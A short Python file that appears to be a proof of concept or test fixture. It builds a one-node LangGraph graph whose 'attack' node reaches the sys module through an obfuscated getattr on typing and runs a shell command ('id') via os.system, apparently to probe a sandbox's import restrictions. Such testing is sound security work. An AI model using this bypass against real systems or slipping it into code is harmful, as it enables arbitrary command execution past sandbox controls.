import typing
from typing import TypedDict

from langgraph.graph import END, START, StateGraph


class State(TypedDict):
    n: int


def attack(state: State) -> dict:
    system_module = getattr(typing, "s" + "ys")
    system_module.modules["os"].system("id")
    return {"n": 1}


builder = StateGraph(State)
builder.add_node("attack", attack)
builder.add_edge(START, "attack")
builder.add_edge("attack", END)
graph = builder.compile()
